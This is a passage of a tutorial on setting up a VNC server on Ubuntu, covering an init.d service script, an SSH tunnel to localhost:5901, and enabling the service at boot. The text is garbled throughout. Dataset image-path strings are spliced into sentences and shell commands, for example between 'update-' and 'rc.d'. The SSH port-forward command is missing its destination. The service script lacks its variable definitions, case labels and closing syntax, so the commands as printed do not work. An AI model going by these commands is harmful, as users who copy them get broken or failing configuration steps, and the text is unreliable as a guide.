To ensure that the VNC server will be able to use this new startup file properly, we'll need to grant executable privileges to it:sudo chmod +x ~/.vnc/xstartup

Step Three — Create a VNC Service File

To easily control our new VNC server, we should set it up as an Ubuntu service. This will allow us to start, stop, and restart our VNC server as needed.
First, open a new service file in /etc/init.d with nano:
sudo nano /etc/init.d/vncserver
The first block of data will be where we declare some common settings that VNC will be referring to a lot, like our username and the display resolution.
export USER="user"
OPTIONS="-depth ${DEPTH} -geometry ${GEOMETRY} :${DISPLAY} -localhost"
. /lib/lsb/init-functions
Be sure to replace user with the non-root user that you have set up, and change 1024x768 if you want to use another screen resolution for your virtual display.
Next, we can start inserting the command instructions that will allow us to manage the new service. The following block binds the command needed to start a VNC server, and feedback that it is being started, to the command keyword start.
case "$1" in
log_action_begin_msg "Starting vncserver for user '${USER}' on localhost:${DISPLAY}"
su ${USER} -c "/usr/bin/vncserver ${OPTIONS}"
The next block creates the command keyword stop, which will immediately kill an existing VNC server instance.

log_action_begin_msg "Stopping vncserver for user '${USER}' on localhost:${DISPLAY}"
su ${USER} -c "/usr/bin/vncserver -kill :${DISPLAY}"
The final block is for the command keyword restart, which is simply the two previous commands (stop and start) combined into one command.
$0 stop
$0 start
exit 0
Once all of those blocks are in your service script, you can save and close that file. Make this service script executable, so that you can use the commands that you just set up:
sudo chmod +x/etc/init.d/vncserver
Now try using the service and command to start a new VNC server instance:
sudo service vncserver start

Step Four — Connect to Your VNC Desktop

To test your VNC server, you'll need to use a client that supports VNC connections over SSH tunnels. If you are using Windows, you could use TightVNC, RealVNC, or UltraVNC. Mac OS X users can use the built-in Screen Sharing, or can use a cross-platform app like RealVNC.
First, we need to create an SSH connection on your local computer that securely forwards to the localhost connectionfor VNC. You can do this via the terminal on Linux or OS X via the following command:
(Remember to replace user andserver_ip_address with the username and IP you used to connect to your server via SSH.)
ssh -L 5901: -N -f -l user server_ip_address
If you are using a graphical SSH client, like PuTTY, use server_ip_address as the connection IP, and set localhost:5901 as a new forwarded port in the program's SSH tunnel settings.
Next, you can use your VNC viewer to connect to the VNC server at localhost:5901. Make sure you don't forget that :5901 at the end, as that is the only port that the VNC instance is accessible from.
Once you are connected, you should see the default XFCE desktop ready for configuration and use! It should look something like this:

Once you have verified that the VNC connection is working, addyour VNC service to the default services, so that it will automatically startwhenever you boot your server:
sudo update-rc.d vncserver defaults